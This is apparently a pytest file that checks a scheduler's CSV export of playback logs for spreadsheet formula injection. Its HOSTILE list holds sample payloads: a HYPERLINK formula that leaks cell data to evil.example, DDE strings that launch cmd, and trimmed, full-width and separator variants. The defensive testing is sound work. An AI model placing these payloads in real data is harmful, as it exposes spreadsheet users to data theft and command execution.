"""The playback log's CSV: a reason a station chose never reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from scheduler.playbacks import ledger
from scheduler.runtime import Runtime
from tests.scheduler.conftest import approved_bulletin, station
from wardcast.csvcells import looks_like_formula, safe_cell, safe_row
from wardcast.protocol import Event, EventType, to_wire

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # leading spaces that Google Sheets or LibreOffice trim; full-width signs (OWASP WSTG)
    "  =1+1",
    "\u00a0@SUM(1)",
    "＝1+1",
    "＠SUM(1)",
    # pieces that Excel takes as cells where the list separator is `;`, or on a new line
    "decoder crashed;=1+1",
    "decoder crashed\n+SUM(1)",
]
# what each hostile reason reads as in the CSV: a quote before every piece that looks like a
# formula (a text that starts with a control character gets one first too)
SAFE = {
    "  =1+1": "'  =1+1",
    "\r=1+1": "'\r'=1+1",
    "decoder crashed;=1+1": "decoder crashed;'=1+1",
    "decoder crashed\n+SUM(1)": "decoder crashed\n'+SUM(1)",
}


def _reported_failure(client: TestClient, runtime: Runtime, admin: dict[str, str],
                      bulletin_id: int, reason: str) -> int:
    """Plan one playback on a new station and apply the station's failed event with reason."""
    target = station(client, admin, f"Trạm {uuid.uuid4().hex[:6]}")
    at = datetime.now(UTC).replace(microsecond=0) + timedelta(minutes=30)
    created = client.post("/api/v1/timetables", headers=admin, json={
        "bulletin_id": bulletin_id, "station_ids": [target["id"]], "starts_at": to_wire(at)})
    assert created.status_code == 201, created.text
    rows = client.get("/api/v1/playbacks", headers=admin,
                      params={"station_id": target["id"]}).json()["items"]
    playback_id = int(rows[0]["id"])
    event = Event(event_id=uuid.uuid4().hex, playback_id=playback_id, type=EventType.FAILED,
                  at=datetime.now(UTC), reason=reason)
    with runtime.db.session() as session:
        assert ledger.apply_events(session=session,
                                   reports=[(int(str(target["id"])), event)]) == ["stored"]
    return playback_id


def test_a_reason_that_looks_like_a_formula_is_text_in_the_csv(
        client: TestClient, runtime: Runtime, admin: dict[str, str], speech_mp3: Path) -> None:
    bulletin_id = approved_bulletin(client, admin, speech_mp3)
    ids = {_reported_failure(client, runtime, admin, bulletin_id, reason): reason
           for reason in [*HOSTILE, "decoder crashed", "=", "", " ok; fine - 3"]}
    answer = client.get("/api/v1/playbacks", headers=admin, params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    text = answer.content.decode("utf-8-sig")
    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(text, newline=""))}
    for playback_id, reason in ids.items():
        cell = rows[playback_id]["reason"]
        if reason in HOSTILE or reason == "=":
            assert cell == SAFE.get(reason, f"'{reason}"), (reason, cell)
        else:
            # an empty reason is the default one of a failure; harmless text is kept as it is
            assert not cell.startswith("'") and (cell == reason or not reason), cell
    # the JSON log, a machine format, keeps what the station said
    items = client.get("/api/v1/playbacks", headers=admin,
                       params={"limit": 1000}).json()["items"]
    assert {i["id"]: i["reason"] for i in items if i["reason"] in HOSTILE} == {
        k: v for k, v in ids.items() if v in HOSTILE}


@pytest.mark.parametrize("text", HOSTILE)
def test_no_piece_of_a_safe_cell_starts_like_a_formula(text: str) -> None:
    assert looks_like_formula(text)
    cell = safe_cell(text)
    assert isinstance(cell, str)
    # cut where a spreadsheet might cut it: no piece, spaces trimmed, starts with a sign
    for piece in re.split(r"[;\r\n]", cell):
        assert not piece.lstrip().startswith(tuple("=+-@＝＋－＠")), (text, cell)
    assert cell.replace("'", "") == text.replace("'", "")  # only quotes were added


@pytest.mark.parametrize("text", ["decoder crashed", "Thông báo; lịch mới", "a-b", "x@y.vn",
                                  "2026-12-06", " ok", ""])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert not looks_like_formula(text) and safe_cell(text) == text


@pytest.mark.parametrize("value", [-12, 0, 3.5, None])
def test_numbers_stay_numbers(value: object) -> None:
    assert safe_row([value, "-12"]) == [value, "'-12"]
